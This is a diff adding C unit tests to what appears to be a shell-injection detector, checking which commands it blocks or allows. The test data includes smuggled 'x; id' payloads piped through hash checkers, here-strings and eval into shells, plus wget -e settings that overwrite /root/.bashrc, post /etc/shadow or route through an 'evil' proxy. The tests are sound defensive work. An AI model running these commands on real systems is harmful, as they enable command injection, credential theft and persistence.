@@ -328,6 +328,134 @@ static void a_value_copied_by_printf_or_read_with_ifs_then_run(void **state)
 	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
 }
 
+/* shell20: the families of review14's findings, in other spellings.
+ * A hash program's check mode (-c in a cluster, --check or its prefix,
+ * cksum's and b2sum's too) and wc --files0-from print the names they
+ * read (bash 5.2.15 and dash ran touch through sha256sum -wc, md5sum
+ * --che, cksum -a sha256 --untagged -c, b2sum -l 256 -c, busybox
+ * sha256sum -c); hashing itself prints none of the text. */
+static void shell20_hash_check_modes_print_names(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | sha256sum -wc 2>/dev/null | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | md5sum --che 2>/dev/null | bash"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | cksum -a sha256 --untagged -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | b2sum -l 256 -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | busybox sha256sum -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | sha1sum '--check' | sh"},
+	    {"printf '%s\\0' '", "x;id;", "' | wc --files0-from=- | sh"},
+	    {"echo '", "x;id;", "' | cksum --raw | sh"},
+	};
+	static const char *const passes[][3] = {
+	    {"echo 'ls ", "x; id", "' | sha256sum -b | sh"},
+	    {"echo 'ls ", "x; id", "' | md5sum --tag | sh"},
+	    {"echo 'ls ", "x; id", "' | cksum -a sha256 | sh"},
+	    {"echo 'ls ", "x; id", "' | b2sum -l 256 | sh"},
+	    {"echo 'ls ", "x; id", "' | wc -w --total=only | sh"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+/* wget -e: only settings that name no file, no program, no host or
+ * credential and no request body pass (robots, tries, timeout,
+ * user_agent ...: the list in ma_sh_wgetrc_key); any other command,
+ * also one wget does not know or one whose name is split by quotes,
+ * fires, in the line and in argv. */
+static void shell20_wget_e_only_plain_settings_pass(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"wget ", "-e OutputDocument=/root/.bashrc", " http://x/"},
+	    {"wget ", "--execute=post-file=/etc/shadow", " http://x/"},
+	    {"wget ", "-e dir_prefix=/var/www", " http://x/"},
+	    {"wget ", "-e hsts_file=/root/.bashrc", " http://x/"},
+	    {"wget ", "-e body_file=/etc/shadow", " http://x/"},
+	    {"wget ", "-e 'output'_document=/root/.bashrc", " http://x/"},
+	    {"wget ", "-e \"save_cookies = /var/www/x.php\"", " http://x/"},
+	    {"wget ", "-e http_proxy=http://evil:8080/", " http://x/"},
+	    {"wget ", "-e header=Cookie:a", " http://x/"},
+	    {"wget -q ", "--execute input=/etc/passwd", " http://x/"},
+	    {"wget ", "-e warc_file=/var/www/x", " http://x/"},
+	    {"wget ", "-eoutput_document=/root/.bashrc", " http://x/"},
+	};
+	static const char *const passes[][3] = {
+	    {"wget ", "-e tries=3", " http://x/"},
+	    {"wget ", "-e timeout=10", " http://x/"},
+	    {"wget ", "-e user_agent=Mozilla", " http://x/"},
+	    {"wget ", "-e check_certificate=off", " http://x/"},
+	    {"wget ", "-e Robots=Off", " http://x/"},
+	    {"wget ", "-e \"robots = off\"", " http://x/"},
+	    {"wget ", "-e wait=1 -e limit_rate=100k", " http://x/"},
+	};
+	const char *a[] = {"wget", "-e", "output_document=/root/.bashrc", "http://x/", NULL};
+	const char *b[] = {"wget", "-e", "http_proxy=http://evil/", "http://x/", NULL};
+	const char *c[] = {"wget", "-e", "tries=3", "http://x/", NULL};
+	const char *d[] = {"wget", "-e", "header=X-Token: abc", "http://x/", NULL};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+	assert_int_equal(argv_verdict("output_document=/root/.bashrc", a), MOAT_BLOCK);
+	assert_int_equal(argv_verdict("http_proxy=http://evil/", b), MOAT_BLOCK);
+	assert_int_equal(argv_verdict("tries=3", c), MOAT_ALLOW);
+	/* the value of a setting the application wrote: data */
+	assert_int_equal(argv_verdict("abc", d), MOAT_ALLOW);
+}
+
+/* A shell's standard input from a process substitution (bash < <(...),
+ * 0<, behind sudo), a script operand that is standard input (bash
+ * /dev/stdin, /dev/fd/0) fed by a here-string or a here-document, and
+ * cat's here-string printing a substituted script (bash 5.2.15 ran each;
+ * the twins feed data to a program or a script). */
+static void shell20_stdin_of_a_shell_from_a_substitution(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"bash 0< <(printf '%s\\n' '", "x; id", "')"},
+	    {"sudo -u www bash -s < <(echo '", "x; id", "')"},
+	    {"bash 2>/dev/null < <(echo '", "x; id", "')"},
+	    {"ssh deploy@web01 < <(echo '", "x; id", "')"},
+	    {"bash /dev/fd/0 <<< '", "x; id", "'"},
+	    {"sh /dev/stdin <<'E'\n", "x; id", "\nE\n"},
+	    {"source <(cat <<< '", "x; id", "')"},
+	    {"sh -c \"$(cat <<< 'ls ", "x; id", "')\""},
+	};
+	static const char *const passes[][3] = {
+	    {"bash run.sh < <(echo '", "x; id", "')"},
+	    {"cat < <(echo '", "x; id", "')"},
+	    {"ssh -n host uptime < <(echo '", "x; id", "')"},
+	    {"grep -c x <(cat <<< '", "x; id", "')"},
+	    {"bash <(cat <<< '", "x; id", "' > f)"},
+	    {"bash run.sh /dev/stdin <<< '", "x; id", "'"},
+	    {"bash < <(echo '", "red shoes", "')"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+/* Copies by printf -v (attached -vNAME, the value as the format too) and
+ * by read after assignments or from a here-document (<<E, <<-E); printf
+ * %q quotes the value for the shell (eval runs the one word). */
+static void shell20_copies_by_printf_and_read(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"x='", "x; id", "'; printf -vy '%s' \"$x\"; eval \"$y\""},
+	    {"x='", "x; id", "'; printf -v cmd \"$x\"; bash -c \"$cmd\""},
+	    {"LC_ALL=C IFS= read -r line <<< '", "x; id", "'; eval \"$line\""},
+	    {"read -r x <<E\n", "x; id", "\nE\nsh -c \"$x\""},
+	    {"IFS= read -r x <<-'E'\n", "x; id", "\n\tE\neval \"$x\""},
+	};
+	static const char *const passes[][3] = {
+	    {"x='", "x; id", "'; printf -v y %q \"$x\"; eval \"echo $y\""},
+	    {"x='", "x; id", "'; printf -v y %s \"$x\"; echo \"$y\""},
+	    {"read -r x <<'E'\n", "x; id", "\nE\necho \"$x\" > f"},
+	    {"read -r x <<'E'\n", "x; id", "\nE\neval \"$y\""},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -341,6 +469,10 @@ int main(void)
 	    cmocka_unit_test(wget_e_settings_that_name_a_file_still_fire_in_a_line),
 	    cmocka_unit_test(a_substitution_or_here_string_redirected_into_a_shell),
 	    cmocka_unit_test(a_value_copied_by_printf_or_read_with_ifs_then_run),
+	    cmocka_unit_test(shell20_hash_check_modes_print_names),
+	    cmocka_unit_test(shell20_wget_e_only_plain_settings_pass),
+	    cmocka_unit_test(shell20_stdin_of_a_shell_from_a_substitution),
+	    cmocka_unit_test(shell20_copies_by_printf_and_read),
 	};
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
